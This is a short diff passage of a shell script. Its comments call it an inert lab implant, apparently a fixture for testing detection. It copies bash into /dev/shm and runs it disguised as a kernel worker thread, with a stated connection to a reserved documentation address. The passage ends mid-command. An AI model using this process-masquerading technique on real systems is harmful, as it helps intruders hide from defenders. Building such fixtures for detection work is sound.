@@ -2,7 +2,7 @@
 # The lab's implant where no compiler makes one: inert, runs from a deleted copy of bash under a kernel thread's name, and holds one
 # TCP connection to 203.0.113.66, an address of TEST-NET-3 that no router forwards. It sends one line and runs no command.
 cat /bin/bash >/dev/shm/kdmtmpflush
-chmod 700 /dev/shm/kdmtmpflush
+/bin/busybox chmod 700 /dev/shm/kdmtmpflush
 # shellcheck disable=SC2016 # the copy expands it
 (exec -a '[kworker/u8:3-events]' /dev/shm/kdmtmpflush -c '
   printf kworker/u8:3 >/proc/self/comm
